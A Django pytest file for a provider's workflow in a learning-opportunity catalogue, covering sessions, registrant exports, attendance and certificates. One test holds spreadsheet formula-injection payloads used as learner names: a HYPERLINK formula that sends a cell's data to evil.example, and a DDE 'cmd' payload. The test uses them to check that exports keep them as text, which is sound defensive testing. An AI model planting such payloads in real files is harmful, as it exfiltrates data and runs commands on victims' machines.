"""A provider's day: add an opportunity, its sessions (one-off and weekly), publish, see and
export registrants, mark attendance and completion."""

import csv
import datetime as dt
import io

import openpyxl
import pytest
from django.utils import timezone

from learningcity.catalogue.models import Opportunity, Registration
from learningcity.catalogue.services.registrations import registration_create
from tests.conftest import client_for
from tests.factories import LearnerFactory, LearningCityFactory, SessionFactory, SkillFactory

pytestmark = pytest.mark.django_db


def test_a_coordinator_adds_and_publishes_an_opportunity_with_weekly_sessions(
    coordinator_a, entity_a, client
):
    city = LearningCityFactory()
    skill = SkillFactory(name_ar="لغة الإشارة")
    client = client_for(coordinator_a)
    response = client.post(
        "/ar/opportunities/manage/new/",
        {
            "title_ar": "لغة الإشارة للأسرة", "description_ar": "دورة للأسر", "opportunity_type": "course",
            "provider": entity_a.pk, "learning_city": city.pk, "governorate": city.governorate_id, "fee": "0",
            "audience_sex": "everyone", "level": "introductory", "language": "sgn", "hours": "12",
            "credential": "completion", "skills": [skill.pk], "age_groups": ["25-44", "45-64"],
            "disabilities": ["hearing"], "sign_language": "on",
        },
    )  # fmt: skip
    opportunity = Opportunity.objects.get()
    assert response.status_code == 302 and opportunity.status == "draft"
    assert sorted(opportunity.age_groups.values_list("age_group", flat=True)) == ["25-44", "45-64"]
    assert " اشار" in opportunity.search_body  # the skill's name is searchable

    refused = client.post(
        f"/ar/opportunities/manage/{opportunity.pk}/status/", {"status": "published"}, follow=True
    )
    assert "يُرجى إضافة جلسة واحدة على الأقل" in refused.content.decode()

    first_day = timezone.localdate() + dt.timedelta(days=3)
    response = client.post(
        f"/ar/opportunities/manage/{opportunity.pk}/sessions/",
        {"day": first_day.isoformat(), "start_time": "17:00", "end_time": "19:00", "capacity": "20",
         "audience_sex": "women", "repeat_every_days": "7", "repeat_count": "4"},
    )  # fmt: skip
    assert response.status_code == 302
    starts = [timezone.localtime(s.starts_at) for s in opportunity.sessions.order_by("starts_at")]
    assert [s.date() for s in starts] == [first_day + dt.timedelta(days=7 * n) for n in range(4)]
    assert {(s.hour, s.minute) for s in starts} == {(17, 0)}

    client.post(f"/ar/opportunities/manage/{opportunity.pk}/status/", {"status": "published"})
    opportunity.refresh_from_db()
    assert opportunity.status == "published"


def test_a_new_session_in_the_past_is_refused_and_the_form_keeps_its_values(coordinator_a, opportunity):
    yesterday = (timezone.localdate() - dt.timedelta(days=1)).isoformat()
    response = client_for(coordinator_a).post(
        f"/ar/opportunities/manage/{opportunity.pk}/sessions/",
        {"day": yesterday, "start_time": "17:00", "end_time": "16:00", "capacity": "20"},
    )
    assert response.status_code == 400
    body = response.content.decode()
    assert yesterday in body and "يجب أن تنتهي الجلسة بعد بدايتها" in body
    assert not opportunity.sessions.exists()


def test_a_session_cannot_admit_people_its_opportunity_excludes(coordinator_a, opportunity):
    opportunity.audience_sex = "women"
    opportunity.save()
    day = (timezone.localdate() + dt.timedelta(days=3)).isoformat()
    response = client_for(coordinator_a).post(
        f"/ar/opportunities/manage/{opportunity.pk}/sessions/",
        {"day": day, "start_time": "17:00", "end_time": "19:00", "capacity": "20", "audience_sex": "men"},
    )
    assert response.status_code == 400
    assert not opportunity.sessions.exists()


def test_registrants_export_as_csv_and_xlsx_with_their_details(coordinator_a, session):
    learner = LearnerFactory(
        full_name="ريم العوفي", accommodation_needs="مترجمة لغة إشارة", mobile="+966551112233"
    )
    registration_create(learner=learner, session=session)
    client = client_for(coordinator_a)
    url = f"/ar/opportunities/manage/sessions/{session.pk}/registrants/"
    response = client.get(url, {"export": "csv"})
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][0] == "الاسم"
    assert rows[1][:3] == ["ريم العوفي", "مؤكد", "0551112233"]
    assert "مترجمة لغة إشارة" in rows[1]
    response = client.get(url, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    assert sheet.sheet_view.rightToLeft
    assert [cell.value for cell in sheet[2]][:2] == ["ريم العوفي", "مؤكد"]


def test_a_name_that_is_a_formula_stays_text_in_both_registrant_files(coordinator_a, session):
    evil = '=HYPERLINK("https://evil.example/?d="&C2,"اضغط")'
    registration_create(learner=LearnerFactory(full_name=evil, mobile="+966551112244"), session=session)
    registration_create(learner=LearnerFactory(full_name="@SUM(1+1)*cmd|' /C calc'!A0"), session=session)
    client = client_for(coordinator_a)
    url = f"/ar/opportunities/manage/sessions/{session.pk}/registrants/"
    text = b"".join(client.get(url, {"export": "csv"}).streaming_content).decode("utf-8-sig")
    names = [row[0] for row in list(csv.reader(io.StringIO(text)))[1:]]
    assert "'" + evil in names and all(name.startswith("'") for name in names)
    sheet = openpyxl.load_workbook(io.BytesIO(client.get(url, {"export": "xlsx"}).content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'" + evil in [cell.value for cell in cells]
    # A mobile number is no formula: it stays as it was.
    assert "0551112244" in [cell.value for cell in cells] or "+966551112244" in [cell.value for cell in cells]


def test_attendance_and_completion_through_the_registrants_page(coordinator_a, past_session):
    came, absent = LearnerFactory.create_batch(2)
    came_registration = Registration.objects.create(learner=came, session=past_session, status="confirmed")
    absent_registration = Registration.objects.create(
        learner=absent, session=past_session, status="confirmed"
    )
    client = client_for(coordinator_a)
    base = f"/ar/opportunities/manage/sessions/{past_session.pk}"
    client.post(
        f"{base}/attendance/",
        {"registration": [came_registration.pk, absent_registration.pk], "present": [came_registration.pk]},
    )
    came_registration.refresh_from_db()
    absent_registration.refresh_from_db()
    assert came_registration.attended is True and absent_registration.attended is False

    refused = client.post(f"{base}/complete/", {"complete": [absent_registration.pk]}, follow=True)
    assert "ارصد الحضور أولًا" in refused.content.decode()
    client.post(f"{base}/complete/", {"complete": [came_registration.pk]})
    came_registration.refresh_from_db()
    assert came_registration.completed_at and came_registration.certificate.is_valid
    page = client.get(f"{base}/registrants/").content.decode()
    assert str(came_registration.certificate.uuid) in page


def test_attendance_cannot_be_marked_before_the_doors_open(coordinator_a, session):
    """From half an hour before the start (the host app checks people in at the door)."""
    import datetime as dt

    from django.utils import timezone

    registration = registration_create(learner=LearnerFactory(), session=session)
    post = {"registration": [registration.pk], "present": [registration.pk]}
    url = f"/ar/opportunities/manage/sessions/{session.pk}/attendance/"
    response = client_for(coordinator_a).post(url, post, follow=True)
    assert "يمكن تسجيل الحضور قبل بدء الجلسة بنصف ساعة فما بعد" in response.content.decode()
    registration.refresh_from_db()
    assert registration.attended is None
    session.starts_at = timezone.now() + dt.timedelta(minutes=20)
    session.ends_at = session.starts_at + dt.timedelta(hours=2)
    session.save()
    client_for(coordinator_a).post(url, post)
    registration.refresh_from_db()
    assert registration.attended is True


def test_a_coordinator_cannot_move_an_opportunity_to_another_entity(coordinator_a, opportunity, entity_b):
    from django.core.exceptions import PermissionDenied

    from learningcity.catalogue.services.opportunities import opportunity_update

    with pytest.raises(PermissionDenied):
        opportunity_update(opportunity=opportunity, data={"provider": entity_b}, by=coordinator_a)


def test_the_manage_list_shows_only_my_entitys_opportunities_in_constant_queries(
    coordinator_a, entity_a, entity_b
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from tests.factories import OpportunityFactory

    OpportunityFactory(provider=entity_b, title_ar="ليست لي")
    for number in range(2):
        SessionFactory(opportunity=OpportunityFactory(provider=entity_a, title_ar=f"لي {number}"))
    client = client_for(coordinator_a)
    with CaptureQueriesContext(connection) as small:
        body = client.get("/ar/opportunities/manage/").content.decode()
    assert "لي 0" in body and "ليست لي" not in body
    for number in range(2, 12):
        SessionFactory(opportunity=OpportunityFactory(provider=entity_a, title_ar=f"لي {number}"))
    with CaptureQueriesContext(connection) as large:
        client.get("/ar/opportunities/manage/")
    assert len(large) == len(small)
